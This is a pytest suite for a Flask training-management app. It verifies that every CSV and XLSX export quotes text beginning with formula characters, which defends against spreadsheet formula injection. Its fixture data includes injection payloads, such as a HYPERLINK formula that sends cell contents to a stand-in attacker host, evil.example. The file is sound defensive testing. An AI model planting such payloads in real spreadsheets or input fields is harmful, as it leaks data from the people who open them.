"""No download lets typed text reach a spreadsheet as a formula.

Every text that an export shows (campus, course, exam, trainee and user names, e-mails)
is set below to a value a spreadsheet would run: `=HYPERLINK(...)`, `+1+1`, `-2+3`,
`@SUM(A1)`, a leading tab or carriage return. Then every download (the employment report at
each level, the certification report, from the web and the CLI; the roster in CSV and
XLSX; the user list; the import template) is read back cell by cell: no text cell may start
with one of those characters (the writer puts a `'` before it, OWASP's rule), XLSX text is
a string cell, never a formula, and numbers are still numbers.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from decimal import Decimal
from enum import StrEnum

import pytest
from flask import current_app, url_for
from flask_babel import lazy_gettext
from openpyxl import load_workbook

from sesac_ms import spreadsheet_out
from sesac_ms.extensions import db
from sesac_ms.models import (
    Cohort,
    CohortStatus,
    Enrollment,
    EnrollmentStatus,
    Exam,
    OutcomeKind,
    Role,
    User,
)
from sesac_ms.placements.services import (
    OutcomeData,
    current_outcome,
    record_attempt,
    record_outcome,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
END = date(2025, 6, 30)


def shown(value: str) -> str:
    """How a hostile value reads back: quoted, a CR as LF (an in-cell line break in Excel)."""
    return ("'" + value).replace("\r", "\n")


def hostile_email(i: int, value: str) -> str:
    """A valid address starting like the value where an address may (= + -), else plain."""
    return f"{value[0]}t{i}@evil.example" if value[0] in "=+-" else f"t{i}@evil.example"


@pytest.fixture
def hostile(make_campus, make_course, make_cohort, make_user) -> list[Cohort]:
    """One campus per hostile value; its course, trainee and exam carry the same value.

    Names are written straight to the rows after the services made them: the services
    trim whitespace, an import or an older version may not have.
    """
    cohorts = []
    for i, value in enumerate(HOSTILE):
        campus = make_campus(f"campus{i}", name_en=f"Hostile {i}", opening_order=100 + i)
        course = make_course(campus=campus, title=f"course{i}")
        cohort = make_cohort(
            course=course,
            number=i + 1,
            status=CohortStatus.FINISHED,
            recruit_start_on=date(2025, 1, 2),
            recruit_end_on=date(2025, 1, 20),
            start_on=date(2025, 2, 3),
            end_on=END,
        )
        trainee = make_user(Role.TRAINEE, campus=campus, email=f"t{i}@sesac.example")
        enrollment = Enrollment(
            cohort_id=cohort.id,
            user_id=trainee.id,
            status=EnrollmentStatus.COMPLETED,
            status_on=END,
        )
        db.session.add(enrollment)
        db.session.flush()
        record_outcome(
            None,
            enrollment,
            OutcomeData(OutcomeKind.EMPLOYED, date(2025, 7, 14), company="c", job_title="j"),
        )
        record_attempt(None, trainee, f"exam{i}", date(2025, 7, 1), True, 800)
        # Not shown by any export today; hostile too, so a column added later is covered.
        outcome = current_outcome(enrollment)
        outcome.company = outcome.job_title = value
        campus.name_ko = value
        course.title = value
        trainee.name = value
        trainee.email = hostile_email(i, value)
        db.session.scalar(db.select(Exam).where(Exam.name == f"exam{i}")).name = value
        cohorts.append(cohort)
    db.session.commit()
    return cohorts


@pytest.fixture
def admin(login_as) -> User:
    return login_as(Role.ADMIN, locale="en")


# --- reading a download back ------------------------------------------------------------


def csv_cells(content: bytes, numeric: set[int]) -> list[list[str]]:
    """The CSV's cells, after checking that no text cell starts a formula."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows, "an empty download"
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if r > 0 and c in numeric:
                assert value == "" or NUMBER.fullmatch(value), (r, c, value)
            else:
                assert not value.startswith(DANGEROUS), (r, c, value)
    return rows


def xlsx_cells(content: bytes, numeric: set[int]) -> list[list[object]]:
    """The sheet's values, after checking every cell's type: text is 's', numbers 'n'."""
    sheet = load_workbook(io.BytesIO(content)).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if cell.value is None:
                continue
            if cell.row > 1 and cell.column - 1 in numeric:
                assert cell.data_type == "n", (cell.coordinate, cell.value)
                assert isinstance(cell.value, int | float), (cell.coordinate, cell.value)
            else:
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                assert isinstance(cell.value, str)
                assert not cell.value.startswith(DANGEROUS), (cell.coordinate, cell.value)
        values.append([cell.value for cell in row])
    return values


def read(content: bytes, fmt: str, numeric: set[int]) -> list[list[object]]:
    return csv_cells(content, numeric) if fmt == "csv" else xlsx_cells(content, numeric)


def column(rows: list[list[object]], index: int) -> set[object]:
    return {row[index] for row in rows[1:]}


def every_hostile_value_in(rows: list[list[object]], index: int) -> None:
    """The values arrived (quoted), so the checks above did not pass on an empty column."""
    assert {shown(v) for v in HOSTILE} <= column(rows, index), column(rows, index)


def url(endpoint: str, **values) -> str:
    with current_app.test_request_context():
        return url_for(endpoint, **values)


# --- the reports -----------------------------------------------------------------------

REPORT_NUMBERS = {3, 4, 5, 6, 7, 8}  # completed … rate; `cohort` (2) too at the cohort level
CERT_NUMBERS = {2, 3, 4}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("by", ["campus", "course", "cohort"])
def test_the_employment_report_has_no_formulas(client, admin, hostile, by, fmt):
    response = client.get(f"/reports/employment?by={by}&format={fmt}")

    assert response.status_code == 200
    numeric = REPORT_NUMBERS | ({2} if by == "cohort" else set())
    rows = read(response.get_data(), fmt, numeric)
    every_hostile_value_in(rows, 0)
    if by != "campus":
        every_hostile_value_in(rows, 1)
    if by == "cohort":
        assert {1, 2, 3, 4, 5, 6} <= {int(n) for n in column(rows, 2) if n not in ("", None)}
    assert [float(n) for n in rows[-1][3:]] == [6, 0, 6, 6, 0, 100]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("by", ["exam", "campus"])
def test_the_certification_report_has_no_formulas(client, admin, hostile, by, fmt):
    response = client.get(f"/reports/certifications?by={by}&format={fmt}")

    assert response.status_code == 200
    rows = read(response.get_data(), fmt, CERT_NUMBERS)
    every_hostile_value_in(rows, 1)
    if by == "campus":
        every_hostile_value_in(rows, 0)
    assert all(float(row[4]) == 100 for row in rows[1:])


@pytest.mark.parametrize("report", ["employment", "certifications"])
def test_the_cli_reports_have_no_formulas(runner, hostile, report, tmp_path):
    by = ["--by", "cohort" if report == "employment" else "campus"]
    numeric = REPORT_NUMBERS | {2} if report == "employment" else CERT_NUMBERS

    result = runner.invoke(args=["report", report, *by])
    assert result.exit_code == 0, result.output
    rows = csv_cells(result.stdout_bytes, numeric)
    every_hostile_value_in(rows, 0)
    every_hostile_value_in(rows, 1)

    path = tmp_path / f"{report}.xlsx"
    result = runner.invoke(args=["report", report, *by, "--format", "xlsx", "-o", str(path)])
    assert result.exit_code == 0, result.output
    rows = xlsx_cells(path.read_bytes(), numeric)
    every_hostile_value_in(rows, 0)
    every_hostile_value_in(rows, 1)


def test_json_keeps_the_names_exactly_as_typed(client, admin, hostile):
    """JSON is read by programs, not opened as a sheet: it is not quoted."""
    rows = client.get("/reports/certifications?by=campus&format=json").get_json()
    assert {row["exam"] for row in rows} == set(HOSTILE)
    assert {row["campus"] for row in rows} == set(HOSTILE)
    assert all(row["passed"] == 1 and row["rate"] == 100.0 for row in rows)


# --- the roster, the user list, the import template ------------------------------------

ROSTER_NUMBERS = {4, 5, 6, 7, 8, 9}  # attendance rate … excused


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_roster_export_has_no_formulas_even_in_the_certifications_passed(
    client, admin, hostile, fmt
):
    names, emails, exams = set(), set(), set()
    for cohort in hostile:
        response = client.post(
            f"/cohorts/{cohort.id}/roster/export", data={"reason": "수식 점검", "format": fmt}
        )
        assert response.status_code == 200
        rows = read(response.get_data(), fmt, ROSTER_NUMBERS)
        assert len(rows) == 2
        names |= column(rows, 0)
        emails |= column(rows, 1)
        exams |= column(rows, 12)  # the joined list the old export left as it was
        assert rows[1][5] in (0, "0")  # days taken, a number
    assert names == {shown(v) for v in HOSTILE}
    assert exams == {shown(v) for v in HOSTILE}
    assert emails == {
        ("'" if v[0] in "=+-" else "") + hostile_email(i, v) for i, v in enumerate(HOSTILE)
    }


def test_the_user_export_has_no_formulas(client, admin, hostile):
    response = client.post("/admin/users/export?role=trainee", data={"reason": "수식 점검"})

    assert response.status_code == 200
    assert response.get_data().startswith("\ufeff".encode())
    rows = csv_cells(response.get_data(), numeric=set())
    every_hostile_value_in(rows, 0)
    every_hostile_value_in(rows, 3)
    assert "'=t0@evil.example" in column(rows, 1)


def test_the_import_template_is_plain_headers(client, admin, hostile):
    response = client.get(url("applications.import_template", cohort_id=hostile[0].id))

    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.get_data().startswith("\ufeff성명,이메일".encode())
    [header] = csv_cells(response.get_data(), numeric=set())
    assert header[:2] == ["성명", "이메일"]


# --- the writer itself -----------------------------------------------------------------


class Kind(StrEnum):
    MINUS = "-x"


@pytest.mark.parametrize("value", [*HOSTILE, "=", "-", "+82 10-1234-5678", "@", "-3"])
def test_text_that_starts_a_formula_gets_a_quote(value):
    assert spreadsheet_out.safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["홍길동", "a=b", "", " =1", "'=1", "\n=1", "AI-900", "#N/A", None]
)
def test_other_text_is_left_alone(value):
    assert spreadsheet_out.safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 12, -2.5, 63.4, Decimal("-1.5"), date(2025, 6, 30), True])
def test_numbers_and_dates_stay_as_they_are(value):
    assert spreadsheet_out.safe_cell(value) is value


def test_anything_else_is_text_first(app):
    assert spreadsheet_out.safe_cell(Kind.MINUS) == "'-x"
    with app.test_request_context():
        name = lazy_gettext("Name")
        assert spreadsheet_out.safe_cell(name) == str(name) and str(name)


def test_the_writers_quote_text_and_keep_numbers():
    columns = ["=title", "n", "when"]
    rows = [["-2+3", -3, date(2025, 6, 30)], ["#N/A", Decimal("-1.5"), None], ["ok", 2.5, ""]]

    content = spreadsheet_out.csv_bytes(columns, rows)
    assert content.startswith(b"\xef\xbb\xbf") and b"\r\n" in content
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [
        ["'=title", "n", "when"],
        ["'-2+3", "-3", "2025-06-30"],
        ["#N/A", "-1.5", ""],
        ["ok", "2.5", ""],
    ]
    assert spreadsheet_out.csv_bytes(["a"], [["b"]], bom=False, line_end="\n") == b"a\nb\n"

    sheet = load_workbook(io.BytesIO(spreadsheet_out.xlsx_bytes(columns, rows, "표"))).active
    assert sheet.title == "표"
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells[0] == [("'=title", "s"), ("n", "s"), ("when", "s")]
    assert cells[1][:2] == [("'-2+3", "s"), (-3, "n")]
    assert cells[1][2][1] == "d"  # a date cell, not text
    assert cells[2][:2] == [("#N/A", "s"), (-1.5, "n")]  # text, not an error value
    assert cells[3] == [("ok", "s"), (2.5, "n"), (None, "n")]

    assert json.loads(spreadsheet_out.json_bytes(["a", "n"], [["=x", -3]])) == [
        {"a": "=x", "n": -3}
    ]


@pytest.mark.parametrize("line_end", ["\n", "\r\n"])
def test_a_line_break_inside_a_text_cannot_start_a_new_row(line_end):
    """With LF line ends the csv module leaves a bare CR unquoted: the writer makes it LF."""
    content = spreadsheet_out.csv_bytes(["a", "b"], [["x\r=1", "y\r\n@z"]], line_end=line_end)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [["a", "b"], ["x\n=1", "y\n@z"]]
